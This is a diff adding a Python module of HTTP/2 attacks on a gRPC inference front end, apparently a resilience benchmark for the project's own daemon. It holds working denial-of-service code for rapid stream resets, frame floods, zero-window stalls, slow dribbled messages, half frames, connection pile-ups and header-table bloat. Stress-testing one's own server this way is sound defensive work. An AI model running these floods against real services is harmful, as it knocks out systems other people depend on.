@@ -1,0 +1,229 @@
+"""Attacks on the gRPC front: raw HTTP/2 frames, as no library would send them."""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import socket
+import struct
+import time
+from collections.abc import Callable
+
+import hpack
+import numpy as np
+from tritonclient.grpc import service_pb2
+
+from bench.attackers.target import Target, drain, pile_up
+from daemon.grpc import frames
+
+_SERVICE = "/inference.GRPCInferenceService/"
+_MIB = 1 << 20
+#: Of an answer.
+_LARGE = 16 * _MIB
+#: What one flood sends at a time.
+_BURST = 16384
+
+
+def huge_deadlines(target: Target) -> None:
+    """Calls with the longest time-outs that gRPC can say, 99999999 hours, one after the other."""
+    message = _prefixed(_small_call())
+    while target.going_on():
+        with target.refusals(), target.grpc_socket() as connection:
+            for number in range(1, 400, 2):
+                connection.sendall(_call(number, message, ("grpc-timeout", f"{99999999 - number}H")))
+                target.count("calls")
+                drain(connection)
+
+
+def no_window_and_gone(target: Target) -> None:
+    """Grants nothing, asks for an answer and closes its half, again and again."""
+    kept: list[socket.socket] = []
+    message = _prefixed(_small_call())
+    while target.going_on():
+        with target.refusals():
+            connection = target.grpc_socket(((frames.INITIAL_WINDOW_SIZE, 0),))
+            kept.append(connection)
+            connection.sendall(_call(1, message))
+            connection.shutdown(socket.SHUT_WR)
+            target.count("calls")
+        time.sleep(0.002)
+        if len(kept) > 1000:
+            kept.pop(0).close()
+    for connection in kept:
+        connection.close()
+
+
+def no_window_and_stays(target: Target) -> None:
+    """Two connections that ask for many answers of 16 MiB and grant nothing."""
+    no_window = ((frames.INITIAL_WINDOW_SIZE, 0),)
+    with contextlib.ExitStack() as stack:
+        message = _prefixed(_large_answer(stack.enter_context(target.region(_LARGE))))
+        connections: list[socket.socket] = []
+        number = 1
+        while target.going_on():
+            with target.refusals():
+                while len(connections) < 2:
+                    connections.append(target.grpc_socket(no_window))
+                    number = 1
+            for connection in list(connections):
+                try:
+                    connection.sendall(_call(number, message))
+                    drain(connection)
+                    target.count("calls")
+                except OSError:
+                    target.count("connections lost")
+                    connections.remove(connection)
+                    connection.close()
+            number += 2
+            time.sleep(0.01)
+        for connection in connections:
+            connection.close()
+
+
+def dribbled_messages(target: Target) -> None:
+    """Sixteen connections announce 60 MiB each and send a byte now and then."""
+    connections = []
+    prefix = struct.pack(">BI", 0, 60 * _MIB)
+    for _ in range(16):
+        with target.refusals():
+            connection = target.grpc_socket()
+            connection.sendall(_headers(1) + frames.frame(frames.DATA, 0, 1, prefix + bytes(1000)))
+            connections.append(connection)
+    while target.going_on():
+        for connection in connections:
+            with target.refusals():
+                connection.sendall(frames.frame(frames.DATA, 0, 1, b"\0"))
+                target.count("bytes")
+        time.sleep(0.1)
+    for connection in connections:
+        connection.close()
+
+
+def half_frames(target: Target) -> None:
+    """Connections with half a frame, or half a header block, after the preface."""
+    halves = (
+        frames.frame(frames.HEADERS, frames.END_HEADERS, 1, _block())[:20],
+        frames.frame(frames.HEADERS, 0, 1, _block()[:10]),
+        frames.head(frames.DATA, 0, 0, 16384),
+    )
+    turn = itertools.cycle(halves)
+
+    def half_open() -> socket.socket:
+        connection = target.grpc_socket()
+        connection.sendall(next(turn))
+        return connection
+
+    pile_up(target, half_open, 1000)
+
+
+def idle_connections(target: Target) -> None:
+    """More connections than the front takes, which ask nothing."""
+    pile_up(target, target.grpc_socket, 5000)
+
+
+def frame_floods(target: Target) -> None:
+    """Frames that do nothing, each kind in turn, as fast as one process can send them."""
+    open_stream = _headers(1)
+    floods = {
+        "unknown": frames.frame(77, 0, 0),
+        "PRIORITY": frames.frame(frames.PRIORITY, 0, 3, bytes(5)),
+        "empty DATA": frames.frame(frames.DATA, 0, 1),
+        "WINDOW_UPDATE": frames.window_update(0, 1),
+        "SETTINGS": frames.settings(()),
+        "PING": frames.frame(frames.PING, 0, 0, bytes(8)),
+    }
+    while target.going_on():
+        for name, frame in floods.items():
+            burst = frame * (_BURST // len(frame))
+            with target.refusals(), target.grpc_socket() as connection:
+                connection.sendall(open_stream)
+                end = time.monotonic() + 1
+                while time.monotonic() < end and target.going_on():
+                    connection.sendall(burst)
+                    target.count(f"{name} frames", _BURST // len(frame))
+                    drain(connection)
+
+
+def new_header_names(target: Target) -> None:
+    """Calls of unknown methods, each with fifty header names that were never seen."""
+    encoder, count = hpack.Encoder(), 0
+    while target.going_on():
+        with target.refusals(), target.grpc_socket() as connection:
+            for number in range(1, 2000, 2):
+                fields = [(":method", "POST"), (":scheme", "http"), (":path", f"/x/{count}"), ("te", "trailers")]
+                fields += [("content-type", "application/grpc")]
+                fields += [hpack.NeverIndexedHeaderTuple(f"name-{count}-{i}", "value") for i in range(50)]
+                block = encoder.encode(fields)
+                connection.sendall(frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, number, block))
+                count += 1
+                target.count("calls")
+                if not target.going_on():
+                    break
+                drain(connection)
+
+
+def rapid_resets(target: Target) -> None:
+    """Calls that are reset as soon as they are made."""
+    message = _prefixed(_small_call())
+    while target.going_on():
+        with target.refusals(), target.grpc_socket() as connection:
+            number = 1
+            while target.going_on():
+                connection.sendall(
+                    b"".join(
+                        _call(n, message) + frames.rst_stream(n, frames.CANCEL) for n in range(number, number + 64, 2)
+                    )
+                )
+                number += 64
+                target.count("calls", 32)
+                drain(connection)
+
+
+def _large_answer(region: str) -> bytes:
+    """A ModelInferRequest whose input lies in a region and whose answer has to be sent."""
+    tensor = service_pb2.ModelInferRequest.InferInputTensor(name="INPUT0", datatype="FP32", shape=[_LARGE // 4])
+    tensor.parameters["shared_memory_region"].string_param = region
+    tensor.parameters["shared_memory_byte_size"].int64_param = _LARGE
+    return bytes(service_pb2.ModelInferRequest(model_name="identity", inputs=[tensor]).SerializeToString())
+
+
+def _small_call() -> bytes:
+    tensor = np.ones(16, np.float32).tobytes()
+    inputs = [
+        service_pb2.ModelInferRequest.InferInputTensor(name=name, datatype="FP32", shape=[1, 16])
+        for name in ("INPUT0", "INPUT1")
+    ]
+    request = service_pb2.ModelInferRequest(model_name="addsub", inputs=inputs, raw_input_contents=[tensor] * 2)
+    return bytes(request.SerializeToString())
+
+
+def _prefixed(message: bytes) -> bytes:
+    return struct.pack(">BI", 0, len(message)) + message
+
+
+def _block(*more: tuple[str, str]) -> bytes:
+    """A header block that indexes nothing, so it can be sent on any connection."""
+    fields = [(":method", "POST"), (":scheme", "http"), (":path", _SERVICE + "ModelInfer"), (":authority", "x")]
+    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
+    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))
+
+
+def _headers(number: int, *more: tuple[str, str]) -> bytes:
+    return frames.frame(frames.HEADERS, frames.END_HEADERS, number, _block(*more))
+
+
+def _call(number: int, message: bytes, *more: tuple[str, str]) -> bytes:
+    return _headers(number, *more) + frames.frame(frames.DATA, frames.END_STREAM, number, message)
+
+
+ATTACKS: dict[str, Callable[[Target], None]] = {
+    "grpc-huge-deadlines": huge_deadlines,
+    "grpc-no-window-and-gone": no_window_and_gone,
+    "grpc-no-window-and-stays": no_window_and_stays,
+    "grpc-dribbled-messages": dribbled_messages,
+    "grpc-half-frames": half_frames,
+    "grpc-idle-connections": idle_connections,
+    "grpc-frame-floods": frame_floods,
+    "grpc-new-header-names": new_header_names,
+    "grpc-rapid-resets": rapid_resets,
+}
